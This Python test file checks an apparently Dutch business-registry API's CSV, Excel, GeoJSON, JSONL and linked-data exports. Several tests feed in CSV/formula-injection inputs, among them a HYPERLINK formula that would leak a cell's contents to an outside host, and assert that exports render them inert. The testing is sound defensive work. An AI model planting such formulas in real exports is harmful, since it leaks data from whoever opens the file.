import csv
import io
import json
from typing import Any

import pytest
from httpx import AsyncClient
from openpyxl import load_workbook

from tests.builders import CATERING, UTRECHT, an_offering, stored

FORMULA = '=HYPERLINK("https://example.org?"&A1;"klik")'
LOCATED = {"lat": 52.09, "lon": -5.12, "municipality": "GM0344"}


async def _get(desk: AsyncClient, kind: str, **query: str) -> Any:
    response = await desk.get(f"/v1/exports/enterprises.{kind}", params=query)
    assert response.status_code == 200, response.text
    assert response.headers["Content-Disposition"] == f'attachment; filename="enterprises.{kind}"'
    return response


async def _csv(desk: AsyncClient) -> list[dict[str, str]]:
    text = (await _get(desk, "csv")).content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


async def _xlsx(desk: AsyncClient) -> list[dict[str, Any]]:
    content = (await _get(desk, "xlsx")).content
    sheet = load_workbook(io.BytesIO(content), read_only=True)["enterprises"]
    head, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(map(str, head), row, strict=True)) for row in rows]


async def test_a_csv_opens_in_a_dutch_excel(desk: AsyncClient) -> None:
    await stored(desk, name="Café 't Hoekje; lunch", kvkNumber="01234567", **LOCATED)

    answer = await _get(desk, "csv")
    [row] = await _csv(desk)

    assert answer.content.startswith(b"\xef\xbb\xbfid;kvkNumber;name;")
    assert answer.headers["Content-Type"] == "text/csv; header=present; charset=utf-8"
    assert b"\r\n" in answer.content
    assert row["name"] == "Café 't Hoekje; lunch"
    assert row["kvkNumber"] == "01234567"
    assert (row["lat"], row["lon"]) == ("52,09", "-5,12")
    assert row["municipalityName"] == "Utrecht"
    assert row["foundedOn"] == ""
    assert row["cpvCodes"] == "45442100"


@pytest.mark.parametrize(
    "text", [FORMULA, "+31 30 1234567", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1"]
)
async def test_a_formula_is_inert_in_csv_and_xlsx(desk: AsyncClient, text: str) -> None:
    offering = an_offering(title=text)
    await stored(desk, name=text, mission=text, tradeNames=[text], offerings=[offering])

    [from_csv] = await _csv(desk)
    [from_xlsx] = await _xlsx(desk)

    for row in (from_csv, from_xlsx):
        for name in ("name", "mission", "tradeNames", "offerings"):
            assert row[name].startswith("'"), (name, row[name])
            assert row[name][1:].strip() == text.strip()


async def test_no_cell_of_a_workbook_is_a_formula_or_a_link(desk: AsyncClient) -> None:
    await stored(desk, name=FORMULA, website="https://example.org", **LOCATED)

    content = (await _get(desk, "xlsx")).content

    sheet = load_workbook(io.BytesIO(content))["enterprises"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n", "b", "d"}
    assert [cell for cell in cells if cell.hyperlink is not None] == []


async def test_a_workbook_keeps_types_and_drops_what_it_cannot_hold(desk: AsyncClient) -> None:
    await stored(
        desk,
        name="Bel\x01letje",
        kvkNumber="00001234",
        mainAimIntegration=True,
        foundedOn="2019-05-01",
        turnoverCents=123_456,
        **LOCATED,
    )

    [row] = await _xlsx(desk)

    assert row["name"] == "Belletje"
    assert row["kvkNumber"] == "00001234"
    assert row["mainAimIntegration"] is True
    assert row["reservedEligible"] is None
    assert row["foundedOn"].date().isoformat() == "2019-05-01"
    assert row["turnoverCents"] == 123_456
    assert (row["lat"], row["lon"]) == (52.09, -5.12)


async def test_geojson_has_a_point_for_who_has_a_place_and_null_for_who_has_none(
    desk: AsyncClient,
) -> None:
    here = await stored(desk, name="Hier", **LOCATED)
    nowhere = await stored(desk, name="Nergens")

    answer = await _get(desk, "geojson")

    assert answer.headers["Content-Type"] == "application/geo+json"
    assert answer.json()["type"] == "FeatureCollection"
    features = {one["id"]: one for one in answer.json()["features"]}
    assert features[here["id"]]["geometry"] == {"type": "Point", "coordinates": [-5.12, 52.09]}
    assert features[here["id"]]["properties"]["name"] == "Hier"
    assert features[here["id"]]["properties"]["cpvCodes"] == ["45442100"]
    assert features[nowhere["id"]]["geometry"] is None


async def test_a_json_line_is_the_profile_as_it_is_read(desk: AsyncClient) -> None:
    firm = await stored(desk, name="Regel", email="info@example.org")

    answer = await _get(desk, "jsonl")

    [line] = answer.text.splitlines()
    assert json.loads(line) == (await desk.get(f"/v1/enterprises/{firm['id']}")).json()


@pytest.mark.parametrize("kind", ["csv", "xlsx", "geojson", "jsonl"])
async def test_no_file_holds_an_address_of_mail(desk: AsyncClient, kind: str) -> None:
    await stored(desk, email="geheim@example.org")

    content = (await _get(desk, kind)).content

    texts = str(await _xlsx(desk)) if kind == "xlsx" else content.decode()
    assert "geheim" not in texts


async def test_an_export_that_finds_nobody_is_a_sound_file(desk: AsyncClient) -> None:
    nobody = {"bbox": "0.1,0.1,0.2,0.2"}

    assert (await _get(desk, "geojson", **nobody)).json() == {
        "type": "FeatureCollection",
        "features": [],
    }
    assert (await _get(desk, "jsonl", **nobody)).content == b""
    text = (await _get(desk, "csv", **nobody)).content.decode("utf-8-sig")
    assert len(text.splitlines()) == 1
    book = load_workbook(io.BytesIO((await _get(desk, "xlsx", **nobody)).content))
    assert book["enterprises"].max_row == 1


async def test_more_than_one_batch_is_exported_whole(
    desk: AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    from api.exports import service

    monkeypatch.setattr(service, "BATCH", 2)
    made = sorted([(await stored(desk, name=f"Firma {n}"))["id"] for n in range(5)])

    features = (await _get(desk, "geojson")).json()["features"]

    assert [one["id"] for one in features] == made
    assert [row["id"] for row in await _csv(desk)] == made
    assert [row["id"] for row in await _xlsx(desk)] == made


def test_a_workbook_that_is_broken_off_leaves_no_file() -> None:
    from openpyxl.worksheet._writer import ALL_TEMP_FILES

    from api.exports import service

    def broken_off() -> None:
        with service._sheet() as (_, sheet):
            sheet.append(["id"])
            assert len(ALL_TEMP_FILES) == 1
            raise ConnectionError("the reader went away")

    with pytest.raises(ConnectionError):
        broken_off()

    assert ALL_TEMP_FILES == []


async def test_linked_data_says_who_offers_what_where(desk: AsyncClient) -> None:
    goods = an_offering(
        title="Broodjes",
        cpvCodes=[CATERING],
        serviceMode="goods",
        coverage={"kind": "radius", "lat": 52.1, "lon": 5.1, "radiusKm": 12.5},
    )
    work = an_offering(title="Schilderwerk", coverage=UTRECHT)
    firm = await stored(
        desk,
        name="De Broodplank",
        kvkNumber="01234567",
        website="https://broodplank.example",
        email="info@broodplank.example",
        town="Utrecht",
        offerings=[goods, work],
    )

    answer = await desk.get(f"/v1/enterprises/{firm['id']}/json-ld")

    assert answer.headers["Content-Type"] == "application/ld+json"
    whole = answer.json()
    assert whole["@context"] == "https://schema.org"
    assert whole["@type"] == "Organization"
    assert whole["identifier"] == [
        {"@type": "PropertyValue", "propertyID": "NL-KVK", "value": "01234567"}
    ]
    product, service = whole["makesOffer"]
    assert product["itemOffered"]["@type"] == "Product"
    assert product["areaServed"][0]["geoRadius"] == "12500"
    assert service["itemOffered"]["@type"] == "Service"
    assert service["itemOffered"]["category"][0]["codeValue"] == "45442100"
    assert whole["areaServed"][1] == {
        "@type": "AdministrativeArea",
        "identifier": "GM0344",
        "name": "Utrecht",
    }
    assert "info@" not in answer.text
    assert "foundingDate" not in whole


async def test_linked_data_of_who_left_is_gone(desk: AsyncClient) -> None:
    firm = await stored(desk)
    await desk.delete(f"/v1/enterprises/{firm['id']}", headers={"If-Match": "*"})

    assert (await desk.get(f"/v1/enterprises/{firm['id']}/json-ld")).status_code == 410


SOUP = {"name": "soep", "unit": "person", "priceFromCents": 450, "priceToCents": 650}
PRICED = [
    SOUP | {"minimumQuantity": 10},
    {"name": "=taart", "unit": "piece", "priceFromCents": 2_000},
    {"name": "koffie", "unit": "piece", "priceToCents": 250},
    {"name": "thee", "unit": "hour", "priceFromCents": 0, "priceToCents": 0},
]
WRITTEN = (
    "broodjes | soep (person, 450-650 cents, at least 10) | =taart (piece, from 2000 cents)"
    " | koffie (piece, up to 250 cents) | thee (hour, 0 cents)"
)


async def test_tables_tell_unit_price_and_least_order_of_products(desk: AsyncClient) -> None:
    offering = an_offering(products=["broodjes"], productDetails=PRICED)
    await stored(desk, offerings=[offering], **LOCATED)

    [from_csv], [from_xlsx] = await _csv(desk), await _xlsx(desk)
    [feature] = (await _get(desk, "geojson")).json()["features"]

    assert from_csv["products"] == from_xlsx["products"] == WRITTEN
    bread, soup, *_ = feature["properties"]["products"]
    assert bread["name"] == "broodjes"
    assert {name: soup[name] for name in PRICED[0]} == PRICED[0]


async def test_a_product_whose_name_is_a_formula_is_inert(desk: AsyncClient) -> None:
    offering = an_offering(productDetails=[PRICED[1]])
    await stored(desk, offerings=[offering], **LOCATED)

    [from_csv], [from_xlsx] = await _csv(desk), await _xlsx(desk)

    assert from_csv["products"] == from_xlsx["products"] == "'=taart (piece, from 2000 cents)"


async def test_linked_data_tells_prices_and_the_least_order(desk: AsyncClient) -> None:
    details = [PRICED[0], {"name": "broodjes", "unit": "piece"}]
    offering = an_offering(productDetails=details, minimumOrderCents=7_550)
    firm = await stored(desk, offerings=[offering])

    answer = await desk.get(f"/v1/enterprises/{firm['id']}/json-ld")

    [offer] = answer.json()["makesOffer"]
    assert offer["priceSpecification"] == [
        {
            "@type": "UnitPriceSpecification",
            "name": "soep",
            "unitText": "person",
            "minPrice": 4.5,
            "maxPrice": 6.5,
            "priceCurrency": "EUR",
            "valueAddedTaxIncluded": False,
            "eligibleQuantity": {"@type": "QuantitativeValue", "minValue": 10},
        }
    ]
    assert offer["eligibleTransactionVolume"]["minPrice"] == 75.5
